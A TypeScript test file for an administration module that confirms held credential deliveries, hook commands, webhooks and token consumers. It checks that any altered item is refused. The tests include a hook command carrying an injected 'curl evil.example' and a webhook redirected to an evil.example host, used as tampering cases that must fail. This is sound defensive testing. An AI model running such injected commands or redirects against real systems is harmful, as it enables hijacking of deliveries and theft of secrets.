// What is held, as a person without a window reads and confirms it.
import { beforeEach, describe, expect, test } from 'vitest'
import { UserFacingError } from '#application/errors.ts'
import { createHeldActions } from '#application/held-actions.ts'
import type { DeliverySpec } from '#engine/domain/delivery-spec.ts'
import { makeProfile, makeWorld } from '../engine/support/world.ts'
import {
  type Administered,
  aConsumer,
  administered,
  aHeldTarget,
  WEBHOOK_SECRET,
} from '../satm/support/administration.ts'

let it: Administered

const hook = (command: string): DeliverySpec => ({
  kind: 'hook',
  command,
  pass: 'environment',
  timeLimit: 30_000,
})
const file: DeliverySpec = {
  kind: 'env-file',
  path: '/srv/.env',
  accessTokenName: 'T',
  refreshTokenName: null,
  confirmed: [],
}

beforeEach(() => {
  it = administered(
    makeWorld({
      profiles: [makeProfile({ id: 'p1', name: 'Orders' }), makeProfile({ id: 'p2', name: 'Queue' })],
    }),
  )
  it.targets = [aHeldTarget('p1', file), aHeldTarget('p2', hook('notify'))]
})

const held = () => it.administration.held()
const idOf = async (name: string) => (await held()).find((one) => one.name === name)?.id ?? ''
const confirm = (...ids: readonly string[]) => it.administration.confirm(ids)

test('an ID stands for exactly what was listed: with anything else of it nothing is confirmed', async () => {
  const id = await idOf('Queue')
  const changes: readonly (() => void)[] = [
    () => (it.targets = [aHeldTarget('p2', hook('notify; curl evil.example'))]),
    () => (it.targets = [aHeldTarget('p1', hook('notify'))]),
    () => (it.targets = [aHeldTarget('p2', hook('notify'), 'another')]),
    () => (it.targets = [aHeldTarget('p2', { ...file, path: '/srv/.env' })]),
    () => (it.targets = []),
  ]
  for (const change of changes) {
    change()
    await expect(confirm(id)).rejects.toMatchObject({
      code: 'no-such-profile',
      message: expect.stringContaining('Nothing was confirmed.'),
    })
    expect(it.targets.every(({ state }) => state.held)).toBe(true)
  }
})

test('one unknown ID among others confirms none', async () => {
  const id = await idOf('Orders')
  await expect(confirm(id, '000000000000')).rejects.toMatchObject({ code: 'no-such-profile' })
  expect((await held()).map(({ name }) => name)).toEqual(['Orders', 'Queue'])
})

test('one of them is confirmed, and the others stay held', async () => {
  const id = await idOf('Orders')
  expect(await confirm(id, id)).toEqual([{ id, isConfirmed: true, sentence: 'delivered' }])
  expect((await held()).map(({ name }) => name)).toEqual(['Queue'])
  await expect(confirm(id)).rejects.toMatchObject({ code: 'no-such-profile' })
})

test('renewals come first, under a name that can be typed', async () => {
  it.renewals = 'renews 2 service apps'
  expect((await held())[0]).toEqual({
    id: 'renewals',
    kind: 'renewals',
    name: 'all service apps',
    actions: ['renews 2 service apps'],
  })
  expect(await confirm('renewals')).toEqual([{ id: 'renewals', isConfirmed: true, sentence: null }])
  expect(it.renewals).toBeNull()
  await expect(confirm('renewals')).rejects.toMatchObject({ code: 'no-such-profile' })
})

test('a webhook gets a new signing secret, which is told to whoever confirmed it', async () => {
  it.webhookUrl = 'https://hooks.example.com/key'
  const id = await idOf('alerts')
  it.webhookUrl = 'https://evil.example/key'
  await expect(confirm(id)).rejects.toMatchObject({ code: 'no-such-profile' })
  expect(await confirm(await idOf('alerts'))).toMatchObject([{ isConfirmed: true, secret: WEBHOOK_SECRET }])
})

test('of two consumers of the same name that are added at once, one is', async () => {
  const add = () => it.administration.addConsumer({ name: 'ci', profileIds: null })
  const added = await Promise.allSettled([add(), add(), add()])
  expect(added.map(({ status }) => status)).toEqual(['fulfilled', 'rejected', 'rejected'])
  expect(it.consumers.map(({ name }) => name)).toEqual(['ci'])
})

test('a consumer that gets more than was listed is another one', async () => {
  it.consumers = [aConsumer({ held: true, profileIds: ['p1', 'gone'] })]
  expect((await held()).at(-1)).toMatchObject({
    kind: 'consumer',
    name: 'ci',
    actions: ['gets the tokens of Orders, gone (removed)'],
  })
  const id = await idOf('ci')
  it.consumers = [aConsumer({ held: true, profileIds: null })]
  await expect(confirm(id)).rejects.toMatchObject({ code: 'no-such-profile' })
  expect((await held()).at(-1)?.actions).toEqual([
    'gets the tokens of all service apps, including future ones',
  ])
})

describe('a delivery', () => {
  test('that fails is confirmed, as in the window, and says why nothing is there yet', async () => {
    it.delivers = () => false
    expect(await confirm(await idOf('Orders'))).toMatchObject([
      { isConfirmed: true, sentence: 'confirmed, but not delivered yet: No such folder.' },
    ])
  })

  test('that the window would refuse stays held, and the others are confirmed', async () => {
    const actions = createHeldActions({
      fleet: () => makeWorld({ profiles: [] }).engine.fleet(),
      targets: () => it.targets,
      async deliver({ profileId }) {
        if (profileId === 'p1') throw new UserFacingError('invalid', 'Another delivery writes this file.')
        return { delivered: 1, unverified: 0, of: 1 }
      },
      fleetDeliveries: {
        list: async () => ({
          deliveries: [
            {
              id: 'f',
              appId: null,
              appName: null,
              spec: hook('put {customer}'),
              held: true,
              customers: 2,
            } as never,
          ],
        }),
        confirm: async () => undefined,
      },
      endpoint: { view: () => ({ consumers: [] }) as never, confirmConsumer: async () => undefined },
      webhook: { view: () => ({ url: null, held: false, last: null }), confirmed: () => Promise.reject() },
      renewals: null,
    })
    const all = await actions.held()
    expect(all.map(({ kind, actions: [first] }) => [kind, first])).toEqual([
      ['delivery', 'writes /srv/.env'],
      ['delivery', 'runs notify'],
      ['fleet-delivery', 'runs put {customer}'],
    ])
    expect(await actions.confirm(all.map(({ id }) => id))).toMatchObject([
      { isConfirmed: false, sentence: 'Another delivery writes this file.' },
      { isConfirmed: true },
      { isConfirmed: true },
    ])
  })
})
